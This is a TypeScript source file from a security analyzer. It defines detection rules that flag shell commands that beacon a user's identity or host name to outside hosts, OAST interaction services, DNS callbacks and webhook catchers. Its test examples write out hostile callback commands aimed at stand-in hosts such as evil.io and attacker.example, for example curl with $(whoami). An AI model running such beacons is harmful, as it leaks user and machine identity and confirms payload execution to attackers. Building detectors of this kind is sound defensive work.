import { ruleAnalyzer, type AnalysisInput, type Rule } from '../rule.js';
import type { SimpleCommand } from '../shell/types.js';
import { EXFIL_KINDS, external, type Destination } from '../knowledge/hosts.js';
import { flows, upstream } from './exfiltration.js';

/** Commands whose output identifies the victim: who, where, what machine. */
const IDENTITY = new Set(['whoami', 'id', 'hostname', 'uname', 'pwd', 'ifconfig', 'ip', 'curl', 'wget', 'cat', 'ls', 'env', 'printenv', 'groups', 'users', 'logname', 'base64', 'xxd', 'hostnamectl', 'sw_vers']);
/** Variables that identify the user or the machine, when put in a URL or host name. */
/** Services that answer with the caller's public address, and the cloud metadata service. */
const ADDRESS_ECHO = /ifconfig\.(?:me|co)|icanhazip|ipinfo\.io|ipify\.org|ipecho\.net|checkip\.amazonaws|ident\.me|wtfismyip|myip\.|169\.254\.169\.254|metadata\.google/;
/** A substitution whose output tells who or where this machine is: `$(whoami)`, `$(curl -s ifconfig.me)` (a fetch of anything else is data). */
const reportsIdentity = (s: SimpleCommand) => IDENTITY.has(s.name) && (s.name !== 'curl' && s.name !== 'wget' ? true : s.argv.some((w) => ADDRESS_ECHO.test(w.slice(0, 256))));
const IDENTITY_VARS = /\$\{?(?:USER|LOGNAME|HOSTNAME|HOST|HOME|PWD|UID)(?![A-Za-z0-9_])/;

/** Every destination of the call, from shell flows, parsed words and non-shell calls. */
function allDestinations(i: AnalysisInput): Destination[] {
  return [...i.facts.destinations, ...flows(i).flatMap((f) => f.dests)];
}

/** A request word with the victim's identity spliced into its URL or host name. */
function beacon(c: SimpleCommand, i: AnalysisInput): string | undefined {
  const f = flows(i).find((x) => x.cmd === c);
  if (!f || !f.dests.some((d) => external(d) && d.kind !== 'developer')) return undefined;
  const subs = upstream(c, i).filter((u) => u.origin === 'substitution');
  for (let k = 1; k < c.argv.length; k++) {
    const w = c.argv[k]!;
    if (!c.dynamic[k] || w.startsWith('-') || w.length > 2048) continue;
    if (!w.includes('://') && !/\.[A-Za-z]{2,}$/.test(w)) continue;
    const named = subs.filter((s) => w.includes(s.text));
    if (named.some(reportsIdentity) || (IDENTITY_VARS.test(w) && !hostIsTheVariable(w))) return `${c.name} ${w}`;
  }
  return undefined;
}

/**
 * `http://$HOST/api`, `http://${HOSTNAME}:8080/`: the variable says where the request goes, not what
 * it reports, as long as nothing after the host names the local identity again.
 */
function hostIsTheVariable(url: string): boolean {
  const rest = url.slice(url.indexOf('://') + 3);
  const authority = rest.split(/[/?#]/, 1)[0]!;
  return /^\$\{?[A-Za-z_]\w*\}?(?::(?:\d+|\$\{?[A-Za-z_]\w*\}?))?$/.test(authority) && !IDENTITY_VARS.test(rest.slice(authority.length));
}

/** A host name with a command substitution in one of its labels: `$(whoami).x.oast.fun`. */
function substitutedLabel(c: SimpleCommand): string | undefined {
  for (let k = 1; k < c.argv.length; k++) {
    const w = c.argv[k]!;
    if (!c.dynamic[k] || w.startsWith('-') || w.includes('://') || w.includes('/') || w.length > 512) continue;
    if ((w.includes('$(') || w.includes('`')) && /\.[A-Za-z0-9-]+\.[A-Za-z]{2,24}$/.test(w)) return w;
  }
  return undefined;
}

export const RULES: readonly Rule[] = [
  {
    id: 'PX-CALLBACK-001', name: 'contacts-oast-interaction-host', score: 80, tactic: 'command_and_control', technique: 'T1071',
    message: 'Contacts an out-of-band interaction host (interact.sh, Burp Collaborator, dnslog, canarytokens)',
    why: 'OAST hosts exist to record that a payload ran and to carry data back; a developer workflow never calls them.',
    check: (i) => {
      const d = allDestinations(i).find((x) => x.kind === 'oast');
      // the interaction-server clients themselves
      const client = (i.view?.commands ?? []).find((c) => c.name === 'interactsh-client' || c.name === 'interactsh' || c.name === 'boast');
      return d ? d.url ?? d.host : client?.argv.join(' ');
    },
    examples: {
      fire: ['interactsh-client -v -o /tmp/.oast', 'curl http://c59h2k3.oast.fun', 'nslookup $(whoami).abc123.burpcollaborator.net', 'wget -q -O- http://x.dnslog.cn/', { Network: { method: 'GET', url: 'https://abc.interact.sh/' } }],
      quiet: ['curl https://api.github.com/repos/x/y', 'dig example.com', 'curl http://localhost:8080/callback'],
    },
  },
  {
    id: 'PX-CALLBACK-002', name: 'beacons-victim-identity', score: 75, tactic: 'command_and_control', technique: 'T1071.001',
    message: 'Puts the user name, host name or system details into a request to an outside host',
    why: '`curl http://ip:port/$(whoami)` is how a payload reports that it ran and where; legitimate requests do not carry the local identity in the URL.',
    commands: ['curl', 'wget', 'http', 'https', 'xh', 'nc', 'ncat', 'dig', 'nslookup', 'host', 'ping', 'ping6'],
    test: (c, i) => beacon(c, i),
    examples: {
      fire: ['curl -s "https://stats.tallyhub.example/p?ip=$(curl -s ifconfig.me)"', 'curl "http://$HOST/report?u=$USER"', 'curl http://45.33.12.7:8000/$(whoami)', 'wget -q "http://evil.io/ping?h=$(hostname)&u=$(id -u)"', 'curl -s "https://webhook.site/abc?u=$USER"', '/usr/bin/curl "http://198.51.100.7/$(uname -a | base64 -w0)"'],
      quiet: ['curl -s -X POST https://events.pagerduty.com/v2/enqueue -d "{\\"routing_key\\":\\"$(curl -s -H \\"Authorization: Token token=$PD_API_TOKEN\\" https://api.pagerduty.com/services/PSV/integrations/PIN | jq -r .integration.integration_key)\\",\\"event_action\\":\\"trigger\\"}"', 'curl -s "http://$HOST/api"', 'curl -sf "http://${HOSTNAME}:8080/health"', 'curl http://localhost:3000/users/$(id -u)', 'curl https://api.github.com/users/$(git config user.name)', 'curl -s "https://deploy.example.com/hook?sha=$(git rev-parse HEAD)"'],
    },
  },
  {
    id: 'PX-CALLBACK-003', name: 'resolves-name-built-from-command-output', score: 70, tactic: 'command_and_control', technique: 'T1071.004',
    message: 'Looks up or pings a host name whose label is command output',
    why: 'A DNS name built from `$(whoami)` or `$(hostname)` turns a lookup into a callback that carries data past egress filters.',
    commands: ['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'curl', 'wget', 'getent'],
    test: (c) => substitutedLabel(c),
    examples: {
      fire: ['ping -c1 $(whoami).x.evil.io', 'dig $(hostname).t.example.net', 'nslookup `id -un`.c.attacker.example'],
      quiet: ['dig $DOMAIN', 'for s in www api; do dig +short $s.example.com; done', 'ping -c1 $(cat host.txt)'],
    },
  },
  {
    id: 'PX-CALLBACK-004', name: 'requests-catcher-or-drop-host', score: 40, tactic: 'command_and_control', technique: 'T1071.001',
    message: 'Makes a request to a webhook catcher, paste site or raw public IP',
    why: 'Request catchers and raw-IP servers are used as beacons to confirm a command ran; alone it is weak evidence.',
    check: (i) => {
      const d = allDestinations(i).find((x) => EXFIL_KINDS.has(x.kind) && x.kind !== 'oast' && x.kind !== 'tunnel' && x.kind !== 'chat-webhook' && (x.kind !== 'raw-ip' || x.url !== undefined));
      return d ? d.url ?? d.host : undefined;
    },
    examples: {
      fire: ['curl https://webhook.site/6f0c1b9e', 'curl -s http://45.33.12.7/ping', { Network: { method: 'GET', url: 'https://eo8z1xq2.m.pipedream.net' } }],
      quiet: ['curl https://api.github.com/repos/x/y', 'ping -c 3 8.8.8.8', 'curl http://192.168.1.10:8080/'],
    },
  },
];

export const callbackValidation = ruleAnalyzer('callback_validation', RULES);
